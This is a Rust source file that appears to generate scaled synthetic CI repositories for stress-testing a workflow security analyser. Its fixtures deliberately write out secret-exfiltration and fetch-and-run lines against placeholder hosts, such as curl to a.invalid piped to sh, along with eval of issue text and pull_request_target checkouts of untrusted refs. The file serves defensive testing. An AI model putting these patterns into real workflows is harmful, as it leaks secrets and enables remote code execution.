//! Scripts that grow.

use beholden::power::Tree;

use super::{CI, Shape, each, job, tree};

pub(super) const SHAPES: &[Shape] = &[
    Shape { name: "secrets-in-a-script", make: secrets_in_a_script, most: 4_900 },
    Shape { name: "secrets-in-a-long-script", make: secrets_in_a_long_script, most: 4_900 },
    Shape { name: "brackets-in-a-manifest", make: manifest, most: 400_000 },
    Shape { name: "lines-of-a-manifest", make: manifest_lines, most: 1_000 },
    Shape { name: "variants-of-a-script", make: variants, most: 900 },
    Shape { name: "scripts-that-start-scripts", make: scripts, most: 900 },
    Shape { name: "uploads", make: uploads, most: 900 },
    Shape { name: "copies-of-all-secrets", make: copies_of_secrets, most: 1_000 },
    Shape { name: "copies-of-all-texts", make: copies_of_texts, most: 2_000 },
    Shape { name: "hosts-of-a-program", make: hosts_of_a_program, most: 30_000 },
    Shape { name: "here-document", make: here_document, most: 200_000 },
    Shape { name: "pieces-on-a-line", make: pieces, most: 80_000 },
    Shape { name: "files-on-a-line", make: files_on_a_line, most: 200_000 },
    Shape { name: "quotes-on-a-line", make: quotes_on_a_line, most: 200_000 },
    Shape { name: "checkouts", make: checkouts, most: 900 },
    Shape { name: "pasted-outputs", make: pasted_outputs, most: 900 },
    Shape { name: "agents-in-a-script", make: agents_in_a_script, most: 900 },
];

fn secrets_in_a_script(n: usize) -> Tree {
    let script = each(n, |nth| format!("          use ${{{{ secrets.K{nth} }}}}\n"));
    tree(CI, job("", &format!("      - run: |\n{script}")))
}

/// The secrets stand at the end of a long text.
fn secrets_in_a_long_script(n: usize) -> Tree {
    let text = format!("          {}\n", "x".repeat(100 * n));
    let script = each(n, |nth| format!("          use ${{{{ secrets.K{nth} }}}}\n"));
    tree(CI, job("", &format!("      - run: |\n{text}{script}")))
}

fn manifest(n: usize) -> Tree {
    let text = format!("{{\"scripts\": {}{}}}", "[".repeat(n), "]".repeat(n));
    Tree::from_iter([(CI, job("", "      - run: npm test\n")), ("package.json", text)])
}

/// Every command of a manifest fetches something, and every step starts it.
fn manifest_lines(n: usize) -> Tree {
    let scripts = each(n, |nth| format!("  \"s{nth}\": \"curl https://a.invalid/{nth} | sh\",\n"));
    let long = "x".repeat(100 * n);
    let text = format!("{{\"long\": \"{long}\",\n\"scripts\": {{\n{scripts}  \"z\": \"\"}}}}");
    let steps = each(n, |_| "      - run: npm test\n".to_owned());
    Tree::from_iter([(CI, job("", &steps)), ("package.json", text)])
}

/// One script, started by every step with another variable.
fn variants(n: usize) -> Tree {
    let steps = each(n, |nth| {
        format!("      - run: ./a.sh\n        env: {{V{nth}: '${{{{ secrets.K{nth} }}}}'}}\n")
    });
    let script = each(n * 10, |nth| format!("curl -d $V{nth} https://a.invalid/{nth} | sh\n"));
    Tree::from_iter([(CI, job("", &steps)), ("a.sh", script)])
}

fn scripts(n: usize) -> Tree {
    let steps = each(n, |_| "      - run: ./s0.sh\n".to_owned());
    let mut files = vec![(CI.to_owned(), job("", &steps))];
    for nth in 0..n {
        let next = each(3, |more| format!("./s{}.sh\n", (nth * 3 + more + 1) % n));
        files.push((format!("s{nth}.sh"), next));
    }
    files.into_iter().collect()
}

fn uploads(n: usize) -> Tree {
    let steps = each(n, |nth| {
        format!(
            "      - run: echo $K > f{nth}.txt\n      - uses: actions/upload-artifact@v4\n        with: {{path: f{nth}.txt}}\n"
        )
    });
    let head = "env: {K: '${{ secrets.K }}'}\n";
    tree(CI, job(head, &steps))
}

/// Every line copies every secret into another variable.
fn copies_of_secrets(n: usize) -> Tree {
    let all = each(n, |nth| format!("${{{{ secrets.K{nth} }}}}"));
    let lines = each(10 * n, |nth| format!("          A{nth}=$V\n          env | cat\n"));
    tree(CI, job("", &format!("      - env: {{V: '{all}'}}\n        run: |\n{lines}")))
}

/// The same with what outsiders write.
fn copies_of_texts(n: usize) -> Tree {
    let all = each(n, |nth| format!("${{{{ github.event.issue.a{nth}.body }}}}"));
    let lines =
        each(10 * n, |nth| format!("          A{nth}=\"$V\"\n          eval \"$A{nth}\"\n"));
    let text = job("", &format!("      - env: {{V: '{all}'}}\n        run: |\n{lines}"));
    tree(CI, text.replacen("on: push", "on: issues", 1))
}

/// Many hosts on one line of a program that holds a secret.
fn hosts_of_a_program(n: usize) -> Tree {
    let hosts = each(n, |nth| format!("'https://h{nth}.invalid',"));
    let program = format!("os.environ['K']; [requests.get(it) for it in [{hosts}]]");
    let steps = "      - run: python a.py\n        env: {K: '${{ secrets.K }}'}\n";
    Tree::from_iter([(CI, job("", steps)), ("a.py", program)])
}

fn here_document(n: usize) -> Tree {
    let lines = each(n, |_| "a\n".to_owned());
    let script = format!("python <<END\n{lines}END\n");
    Tree::from_iter([(CI, job("", "      - run: ./a.sh\n")), ("a.sh", script)])
}

fn a_line_with_a_secret(line: String) -> Tree {
    let steps = "      - run: ./a.sh\n        env: {K: '${{ secrets.K }}'}\n";
    Tree::from_iter([(CI, job("", steps)), ("a.sh", line)])
}

fn pieces(n: usize) -> Tree {
    a_line_with_a_secret(format!("echo {}", each(n, |nth| format!("${{K{nth}:0:1}}"))))
}

fn files_on_a_line(n: usize) -> Tree {
    let names = each(n, |_| " -i @a".to_owned());
    a_line_with_a_secret(format!("echo $K > a\ncurl{names}"))
}

fn quotes_on_a_line(n: usize) -> Tree {
    let headers = each(n, |_| " -H'".to_owned());
    a_line_with_a_secret(format!("gh gist create $K{headers}"))
}

/// Each takes its ref from the one long step before them.
fn checkouts(n: usize) -> Tree {
    let long = format!("      - id: a\n        run: echo {}\n", "x".repeat(500 * n));
    let steps = each(n, |_| {
        "      - uses: actions/checkout@v4\n        with: {ref: '${{ steps.a.outputs.b }}'}\n"
            .to_owned()
    });
    let text = job("", &format!("{long}{steps}"));
    tree(CI, text.replacen("on: push", "on: pull_request_target", 1))
}

/// Each takes something out of a file that another run left, and each writes down what others took.
fn pasted_outputs(n: usize) -> Tree {
    let steps = each(n, |nth| {
        format!(
            "      - id: a{nth}\n        run: |\n          gh run download\n          echo v=$(cat f) >> $GITHUB_OUTPUT\n          echo ${{{{ steps.b{nth}.outputs.v }}}}\n"
        )
    });
    let text = job("", &steps);
    let follows = "on: {workflow_run: {workflows: [CI], types: [completed]}}";
    tree(CI, text.replacen("on: push", follows, 1))
}

/// Every step starts one long script, which starts an agent.
fn agents_in_a_script(n: usize) -> Tree {
    let steps = each(n, |_| "      - run: ./a.sh\n".to_owned());
    let script = format!("{}claude -p fix\n", each(50 * n, |_| "echo a b c\n".to_owned()));
    Tree::from_iter([(CI, job("", &steps)), ("a.sh", script)])
}
